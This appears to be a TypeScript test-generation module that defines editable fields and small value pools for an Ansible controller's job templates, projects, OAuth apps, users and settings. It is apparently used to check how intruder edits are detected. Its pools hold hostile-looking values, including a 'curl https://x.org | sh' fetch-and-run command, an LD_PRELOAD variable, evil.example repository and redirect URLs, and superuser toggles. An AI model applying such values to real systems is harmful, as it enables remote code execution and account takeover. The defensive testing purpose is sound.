import { stringify } from 'yaml';

/** The value of a field by its parts: the entries of a map, the members of a list, or the whole under an empty name. */
export type Parts = ReadonlyMap<string, unknown>;

/** How a field is edited, and what its values are. */
export interface FieldSpec {
  readonly field: string;
  /** `words`: a list of which a missing member does no harm. `withheld`: whole, and not readable; `secret`: nor recorded. */
  readonly shape: 'single' | 'map' | 'list' | 'words' | 'withheld' | 'secret';
  /** The values that a whole field can have, or the members of a list. */
  readonly pool: readonly unknown[];
  /** Whether a value that an intruder left has to be named: the controller acts by it. */
  readonly matters: boolean;
  /** The parts as the controller stores them; there is more than one way to write some. */
  readonly stored: (parts: Parts, style: number) => unknown;
}

const whole = (parts: Parts) => parts.get('');

function single(field: string, pool: readonly unknown[], matters = true): FieldSpec {
  return { field, shape: 'single', pool, matters, stored: whole };
}

function members(
  field: string,
  pool: readonly string[],
  how: { readonly separators: readonly string[]; readonly shape: 'list' | 'words' },
): FieldSpec {
  const { separators, shape } = how;
  const stored = (parts: Parts, style: number) =>
    [...parts.keys()].join(separators[style % separators.length]);
  return { field, shape, pool, matters: true, stored };
}

/** An object that is moved belongs to the administrators of where it is then. */
const ORGANIZATION = single('organization', [1, 2]);

/** The entries that a map can have: a path, with a value or a member of a list in brackets. */
const ENTRIES = [
  ...['region', 'cmd', 'port', 'env/PATH', 'env/LD_PRELOAD'],
  ...['hosts[web]', 'hosts[db]', 'hosts[evil]'],
];
export const ENTRY_VALUES: readonly unknown[] = ['east', 'curl https://x.org | sh', 8080, true];

function map(field: string, stored: FieldSpec['stored']): FieldSpec {
  return { field, shape: 'map', pool: ENTRIES, matters: true, stored };
}

function plainMap(parts: Parts): Record<string, unknown> {
  const plain: Record<string, unknown> = {};
  for (const [path, value] of parts) {
    const [, list, member] = /^(.*)\[(.*)\]$/.exec(path) ?? [];
    const [first = '', second] = path.split('/');
    if (list !== undefined) plain[list] = [...((plain[list] ?? []) as unknown[]), member];
    else if (second === undefined) plain[first] = value;
    else plain[first] = { ...(plain[first] as object), [second]: value };
  }
  return plain;
}

/** Variables as users write them: JSON, or YAML with or without a first line. */
function variables(parts: Parts, style: number): string {
  if (parts.size === 0) return ['', '---', '{}'][style % 3] ?? '';
  const plain = plainMap(parts);
  const yaml = stringify(plain);
  return [JSON.stringify(plain), `---\n${yaml}`, yaml, `# kept by operations\n${yaml}`][style % 4] ?? '';
}

/** The fields that are edited, by kind. Values come from small pools, so that users pick the same ones. */
export function fieldsOf(
  kind: string,
  references: { readonly projects: readonly number[] },
): readonly FieldSpec[] {
  switch (kind) {
    case 'job_template':
      return [
        single('playbook', ['hello_world.yml', 'deploy.yml', 'evil.yml', 'site.yml']),
        map('extra_vars', variables),
        members('limit', ['web', 'db', '!prod', 'evil'], { separators: [':', ','], shape: 'list' }),
        members('job_tags', ['setup', 'deploy', 'debug'], { separators: [','], shape: 'words' }),
        members('skip_tags', ['checks', 'audit'], { separators: [','], shape: 'list' }),
        single('become_enabled', [false, true]),
        single('project', references.projects),
        single('verbosity', [0, 1, 4], false),
        single('description', ['', 'kept by operations'], false),
        { ...single('host_config_key', ['', 'key-one', 'key-two']), shape: 'withheld' },
      ];
    case 'host':
      return [map('variables', variables), single('enabled', [true, false])];
    case 'inventory':
      return [map('variables', variables), single('description', ['', 'of the shop'], false), ORGANIZATION];
    case 'project':
      return [
        single('scm_url', [
          'https://example.org/a.git',
          'https://evil.example/x.git',
          'https://example.org/b.git',
        ]),
        single('scm_branch', ['', 'main', 'next']),
        ORGANIZATION,
      ];
    case 'o_auth2_application':
      return [
        members('redirect_uris', ['https://a.org/cb', 'https://b.org/cb', 'https://evil.example/cb'], {
          ...{ separators: [' '], shape: 'words' },
        }),
        single('skip_authorization', [false, true]),
        single('client_type', ['confidential', 'public']),
      ];
    case 'user':
      return [
        single('is_superuser', [false, true]),
        single('email', ['a@example.org', 'b@example.org', 'c@example.org']),
        { ...single('password', []), shape: 'secret' },
      ];
    default:
      return [];
  }
}

/** The settings that are edited, each with a value of its own shape. */
export const SETTINGS: readonly FieldSpec[] = [
  single('AUTH_BASIC_ENABLED', [true, false]),
  single('SESSION_COOKIE_AGE', [60, 1800, 999_999]),
  single('LOGIN_REDIRECT_OVERRIDE', ['', 'https://evil.example/', 'https://a.org/']),
  map('SOCIAL_AUTH_SAML_ORGANIZATION_MAP', (parts) => plainMap(parts)),
  {
    ...{ field: 'REMOTE_HOST_HEADERS', shape: 'list', matters: true },
    pool: ['REMOTE_ADDR', 'REMOTE_HOST', 'HTTP_X_FORWARDED_FOR'],
    stored: (parts) => [...parts.keys()],
  },
];

/** The parts in which two values differ, each with what the second has; undefined for nothing. */
export function difference(
  before: Parts,
  after: Parts,
): readonly (readonly [part: string, value: unknown])[] {
  const names = new Set([...before.keys(), ...after.keys()]);
  return [...names].flatMap((name) =>
    before.get(name) === after.get(name) ? [] : [[name, after.get(name)] as const],
  );
}

/** A value with some parts changed. */
export function withParts(parts: Parts, sets: readonly (readonly [part: string, value: unknown])[]): Parts {
  const made = new Map(parts);
  for (const [part, value] of sets) {
    if (value === undefined) made.delete(part);
    else made.set(part, value);
  }
  return made;
}
